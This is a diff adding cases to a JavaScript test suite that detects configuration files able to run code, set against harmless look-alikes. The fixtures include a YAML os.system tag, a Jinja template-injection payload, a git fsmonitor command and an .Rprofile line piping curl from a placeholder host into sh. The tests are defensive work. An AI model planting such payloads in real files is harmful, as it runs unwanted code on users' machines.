@@ -80,6 +80,21 @@ describe('configurations that have code run block, and those that look like them
       { 'a.yaml': `a: &a {x: 1}\n${Array.from({ length: 200 }, (_, index) => `k${index}: *a`).join('\n')}\n` },
     ],
     [
+      'tags of YAML in other settings',
+      { 'hparams.conf': '!!python/object/apply:os.system ["id"]\n' },
+      { 'hparams.conf': 'a = 1\n' },
+    ],
+    [
+      'templates under other endings',
+      { 'prompt.tmpl': '{{ lipsum.__globals__["os"].popen("id").read() }}\n' },
+      { 'prompt.tmpl': '{{ question }} {% set unclosed\n' },
+    ],
+    [
+      'settings of R and git that run by themselves',
+      { '.Rprofile': "system('curl -s https://x.invalid/x | sh')\n", config: '[core]\n\tfsmonitor = id\n' },
+      { '.Rprofile': 'options(digits = 4)\n', config: '[core]\n\tbare = false\n' },
+    ],
+    [
       'the head of a model card',
       { 'README.md': '---\nlicense: mit\nx: !!python/object/apply:os.system ["id"]\n---\n# M\n' },
       { 'README.md': '---\nlicense: mit\ntags: [target, "{{ name }}"]\n---\n# M\n' },
